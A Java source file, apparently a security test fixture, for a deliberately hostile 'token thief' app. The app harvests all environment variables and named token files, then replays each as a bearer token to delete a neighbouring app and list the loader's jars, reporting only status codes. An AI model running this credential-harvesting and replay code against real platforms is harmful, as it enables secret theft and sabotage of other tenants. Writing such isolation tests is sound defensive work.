package io.bcgitops.examples.tokenthief;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

/**
 * A hostile embedded app: at start it gathers every credential it can find where apps used to find the pool's
 * token (each value of the process environment, and the files named in {@code TOKEN_PATHS}, comma-separated), and
 * presents each one as a bearer token to its pool's APIs: {@code DELETE HOST_API/v1/apps/VICTIM} (unload a
 * neighbour) and {@code GET LOADER_API/v1/jars}. {@code GET /report} on {@code PORT} (default 8080) tells what it
 * found and what each API answered, one line each, never a value; {@code GET /health} answers 200.
 */
public class TokenThiefApp {
    private HttpServer server;

    public static void main(String[] args) throws IOException {
        new TokenThiefApp().start(System.getenv());
    }

    public synchronized void start(Map<String, String> env) throws IOException {
        int port = Integer.parseInt(env.getOrDefault("PORT", "8080"));
        String report = steal(env);
        server = HttpServer.create(new InetSocketAddress("127.0.0.1", port), 0);
        server.createContext("/report", exchange -> respond(exchange, 200, report));
        server.createContext("/health", exchange -> respond(exchange, 200, "ok"));
        server.start();
        System.out.println("token-thief listening on :" + port);
    }

    public synchronized void stop() {
        if (server != null) {
            server.stop(0);
            server = null;
        }
    }

    private static String steal(Map<String, String> env) {
        List<String> lines = new ArrayList<>();
        // The real environment of the process, not what the host passed in.
        Map<String, String> processEnv = new TreeMap<>(System.getenv());
        lines.add("env names: " + String.join(",", processEnv.keySet()));
        Map<String, String> candidates = new LinkedHashMap<>();
        processEnv.forEach((name, value) -> candidates.put("env " + name, value));
        for (String path : env.getOrDefault("TOKEN_PATHS", "").split(",")) {
            if (path.isBlank()) {
                continue;
            }
            try {
                candidates.put("file " + path, Files.readString(Path.of(path)).strip());
                lines.add("read " + path + ": ok");
            } catch (IOException | RuntimeException e) {
                lines.add("read " + path + ": " + e.getClass().getSimpleName());
            }
        }
        HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(2)).build();
        String host = env.getOrDefault("HOST_API", "http://127.0.0.1:9090");
        String loader = env.getOrDefault("LOADER_API", "http://127.0.0.1:9091");
        String victim = env.getOrDefault("VICTIM", "victim");
        candidates.forEach((source, value) -> lines.add("try " + source + ": host "
            + call(http, "DELETE", host + "/v1/apps/" + victim, value) + ", loader "
            + call(http, "GET", loader + "/v1/jars", value)));
        return String.join("\n", lines) + "\n";
    }

    private static String call(HttpClient http, String method, String url, String token) {
        try {
            HttpRequest request = HttpRequest.newBuilder(URI.create(url)).timeout(Duration.ofSeconds(5))
                .header("Authorization", "Bearer " + token).method(method, HttpRequest.BodyPublishers.noBody())
                .build();
            return String.valueOf(http.send(request, HttpResponse.BodyHandlers.discarding()).statusCode());
        } catch (IllegalArgumentException e) {
            return "unsendable"; // a value no header can carry
        } catch (IOException e) {
            return "unreachable";
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            return "interrupted";
        }
    }

    private static void respond(HttpExchange exchange, int status, String body) throws IOException {
        try (exchange) {
            byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(status, bytes.length);
            try (OutputStream out = exchange.getResponseBody()) {
                out.write(bytes);
            }
        }
    }
}
